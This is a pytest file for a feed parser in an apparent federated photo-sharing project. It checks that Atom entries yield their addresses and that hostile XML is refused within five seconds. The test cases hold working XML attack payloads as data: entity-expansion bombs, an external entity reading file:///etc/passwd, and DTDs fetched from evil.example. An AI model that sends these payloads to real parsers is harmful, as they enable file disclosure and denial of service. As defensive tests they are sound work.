"""Feeds of strangers: addresses come out of honest ones, and nothing but a refusal out of the others."""

from __future__ import annotations

import time

import pytest

from rossgram_fed.federation.atom_links import MOST_ENTRIES, BadFeed, addresses_in

ATOM = 'xmlns="http://www.w3.org/2005/Atom"'
PIXELFED = f"""<?xml version="1.0" encoding="UTF-8"?>
<feed {ATOM} xmlns:media="http://search.yahoo.com/mrss/">
  <id>https://pixel.example/users/ines.atom</id>
  <link href="https://pixel.example/users/ines" rel="alternate"/>
  <entry>
    <id>https://pixel.example/p/ines/2</id>
    <title><![CDATA[Two & more]]></title>
    <author><id>https://pixel.example/not/this</id></author>
    <link rel="alternate" href="https://pixel.example/p/ines/2"/>
    <content type="html"><![CDATA[ <img id="x" src="https://pixel.example/2.jpg"> ]]></content>
  </entry>
  <entry><id>tag:pixel.example,2026:1</id><link href="https://pixel.example/p/ines/1"/></entry>
  <entry><id>javascript:alert(1)</id><link rel="enclosure" href="https://pixel.example/1.jpg"/></entry>
  <entry><id> https://pixel.example/p/ines/2 </id></entry>
</feed>""".encode()

LAUGHS = "".join(f'<!ENTITY l{number + 1} "{f"&l{number};" * 10}">' for number in range(9))


def test_the_addresses_of_entries() -> None:
    """Each entry gives its id or, where that is no address, the page it links to; nothing else is an address."""
    assert addresses_in(PIXELFED, allow_http=False) == (
        "https://pixel.example/p/ines/2",
        "https://pixel.example/p/ines/1",
    )


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (f'<!DOCTYPE f [<!ENTITY l0 "ha">{LAUGHS}]><feed {ATOM}>&l9;</feed>'.encode(), "a billion laughs"),
        (f'<!DOCTYPE f [<!ENTITY a "{"a" * 50000}">]><f>{"&a;" * 50000}</f>'.encode(), "quadratic growth"),
        (b'<!DOCTYPE f [<!ENTITY x SYSTEM "file:///etc/passwd">]><feed>&x;</feed>', "an external entity"),
        (b'<!DOCTYPE f SYSTEM "https://evil.example/x.dtd"><feed/>', "an external document type"),
        (b'<!DOCTYPE f [<!ENTITY % p SYSTEM "https://evil.example/p"> %p;]><feed/>', "a parameter entity"),
        (b"<!DOCTYPE feed><feed/>", "a document type alone"),
        (b"<feed>&nbsp;</feed>", "an entity nobody declared"),
        (b"<f>" * 1000, "nesting"),
        (b"<a>" * 349_525, "a megabyte of nesting"),
        (b"<" * 1_000_000, "a megabyte of brackets"),
        (b"\x00\xff\xfe" * 333_333, "a megabyte of garbage"),
        (b"<f " + b" ".join(b'a%d="1"' % number for number in range(80_000)) + b"></f><x>", "80,000 attributes"),
        ("<!DOCTYPE feed><feed/>".encode("utf-16"), "a document type in another encoding"),
        (b'{"type": "OrderedCollection"}', "no XML at all"),
        (b"", "nothing"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_feeds_that_are_refused(body: bytes, reason: str) -> None:
    """Row 145: what could have entities, or is no feed, is refused at once; nothing is expanded or loaded."""
    before = time.process_time()
    with pytest.raises(BadFeed):
        addresses_in(body, allow_http=False)
    assert time.process_time() - before < 5, reason


def test_a_feed_gives_no_more_than_its_share() -> None:
    """However many entries a feed has, and however long their ids, what comes out is bounded."""
    entries = "".join(f"<entry><id>https://a.example/{number}</id></entry>" for number in range(20_000))
    assert len(addresses_in(f"<feed {ATOM}>{entries}</feed>".encode(), allow_http=False)) == MOST_ENTRIES
    long = f"<feed {ATOM}><entry><id>https://a.example/{'x' * 900_000}</id></entry></feed>"
    assert addresses_in(long.encode(), allow_http=False) == ()
